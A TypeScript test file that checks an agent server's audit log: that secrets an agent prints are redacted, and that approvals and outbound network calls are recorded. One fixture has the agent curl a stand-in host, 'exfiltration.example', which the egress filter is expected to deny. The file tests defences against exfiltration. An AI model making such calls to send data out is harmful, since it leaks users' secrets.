import Docker from 'dockerode';
import { SignJWT } from 'jose';
import { expect, inject, test } from 'vitest';
import { recordsIn, type Seen, verify } from '../audit/audit-rig.ts';
import { run } from '../cli/audit-program.ts';
import { runsOnce } from '../fakes/stand-in-model/script.ts';
import { shell, text } from '../fakes/stand-in-model/step.ts';
import { startRegistry } from '../gateway/egress/stand-in-registry.ts';
import { hostGateway } from './compose-project.ts';
import { call, connect, REAL_KEY, startTestServer } from './test-server.ts';

const engine = inject('engine');
const SECRET = 'signs-the-tokens-of-all-callers-of-this-test';
const TOKEN = `ghp_${'a1B2'.repeat(9)}`;

test('what an agent does is recorded without secrets, and its result stays exact', async () => {
  const script = runsOnce(`echo key=${TOKEN} > a.txt; cat a.txt; echo ${REAL_KEY}`);
  await using target = await startTestServer({ runtime: 'process', script });
  await using client = await connect(target);
  const args = { task: 'a secret plan', agent_id: 'a', wait: false };
  const { turn_id } = await call(client, 'implement', args);
  const { result } = await call(client, 'wait_turn', { turn_id });
  const journal = await (await fetch(`${target.url}/api/v1/turns/${turn_id}/events`)).text();
  await expect(call(client, 'get_turn', { turn_id: 'none' })).rejects.toThrow();
  await call(client, 'cleanup_inactive_agents', { older_than_seconds: 0, remove: true });
  expect(result.changes[0].diff).toContain(TOKEN);
  const events = client.progress.join();
  await target.stop();

  const records = recordsIn(target.dataDir);
  const ofTurn = records.filter((record) => record.turnId === turn_id);
  expect(ofTurn.map(({ type }) => type)).toEqual(
    expect.arrayContaining(['call', 'turn_started', 'command', 'turn_ended']),
  );
  expect(ofTurn.find(({ type }) => type === 'turn_ended')).toMatchObject({
    agentId: 'a',
    principal: 'local',
    sessionId: expect.any(String),
    tokens: { model_requests: expect.any(Number) },
    data: { tool: 'implement', state: 'completed' },
  });
  expect(
    records.find(({ data }) => data?.outcome === 'submitted' || data?.tool === 'implement'),
  ).toMatchObject({
    data: { arguments: { task: 'text of 13', wait: 'false' } },
  });
  expect(records.find(({ data }) => data?.outcome === 'turn_not_found')).toMatchObject({
    correlationId: expect.any(String),
  });
  expect(records.at(-1)).toMatchObject({ type: 'server_stopped', principal: 'server' });
  expect(records.some(({ type, agentId }) => type === 'agent_removed' && agentId === 'a')).toBe(
    true,
  );
  const whole = JSON.stringify(records);
  for (const secret of [TOKEN, REAL_KEY, 'a secret plan']) expect(whole).not.toContain(secret);
  expect(whole).toContain('[redacted GITHUB_TOKEN]');
  expect(events).not.toContain(TOKEN);
  // The last one is the result.
  const [journaled = ''] = journal.split('event: end');
  expect(journaled).toContain('key=[redacted GITHUB_TOKEN]');
  for (const secret of [TOKEN, REAL_KEY]) expect(journaled).not.toContain(secret);
  expect(verify(target.dataDir)).toMatchObject({ ok: true, records: records.length });
});

test.runIf(engine.available)(
  'what an agent reached, was denied and was approved for is on record, by who asked for it',
  async () => {
    const here = await hostGateway(new Docker());
    await using site = await startRegistry(here);
    const curls = `curl -sS http://${here}:${site.port}/tiny; curl -sS https://exfiltration.example`;
    await using target = await startTestServer({
      runtime: 'docker',
      script: ({ toolOutputs }) => (toolOutputs.length === 0 ? shell(curls) : text('Done.')),
      environment: {
        ...{ JWT_SECRET: SECRET, EGRESS_ALLOW: `${here}:${site.port}` },
        EGRESS_ALLOW_PRIVATE: `${here}/32`,
      },
    });
    await using ann = await connect(target, 'http', '', await sign('ann', 'developer'));
    await using eve = await connect(target, 'http', '', await sign('eve', 'approver'));
    const asked = { prompt: 'x', agent_id: 'a', sandbox: 'full-access', wait: false };
    const { turn_id } = await call(ann, 'codex', asked);
    const { approvals } = await call(eve, 'list_approvals', { state: 'pending' });
    const [{ approval_id }] = approvals;
    await call(eve, 'decide_approval', { approval_id, approve: true, reason: 'Ticket 7' });
    await call(ann, 'wait_turn', { turn_id });
    expect(site.requests).toEqual(['GET /tiny']);
    await target.stop();

    const of = await exported(
      target.dataDir,
      'call',
      'approval_requested',
      'approval_decided',
      'egress',
    );
    const { agentId, correlationId } = of.find(({ type }) => type === 'approval_requested') ?? {};
    expect(agentId).toEqual(expect.any(String));
    const mine = { turnId: turn_id, agentId, correlationId };
    expect(of.filter(({ turnId, type }) => turnId === turn_id && type !== 'call')).toMatchObject([
      { ...mine, type: 'approval_requested', principal: 'ann', data: { risk: 'high' } },
      {
        ...{ ...mine, type: 'approval_decided', principal: 'eve' },
        data: { state: 'approved', decisions: [{ by: 'eve', reason: 'Ticket 7' }] },
      },
      {
        ...{ ...mine, type: 'egress', principal: 'ann', sessionId: expect.any(String) },
        data: { outcome: 'allowed', method: 'GET', host: here, port: site.port },
      },
      {
        ...{ ...mine, type: 'egress', principal: 'ann' },
        data: {
          ...{ outcome: 'denied', reason: 'not_allowed', method: 'CONNECT' },
          ...{ host: 'exfiltration.example', port: 443 },
        },
      },
    ]);
    expect(of.find(({ data }) => data?.tool === 'codex')).toMatchObject({
      ...{ principal: 'ann', turnId: turn_id, correlationId },
    });
    expect(await run(target.dataDir, 'verify')).toMatchObject({ code: 0 });
  },
);

/** As `audit export` prints them. */
async function exported(directory: string, ...types: string[]): Promise<Seen[]> {
  const { stdout } = await run(directory, 'export', ...types.flatMap((type) => ['--type', type]));
  return stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
}

function sign(sub: string, role: string): Promise<string> {
  return new SignJWT({ sub, role })
    .setProtectedHeader({ alg: 'HS256' })
    .setExpirationTime('1h')
    .sign(new TextEncoder().encode(SECRET));
}
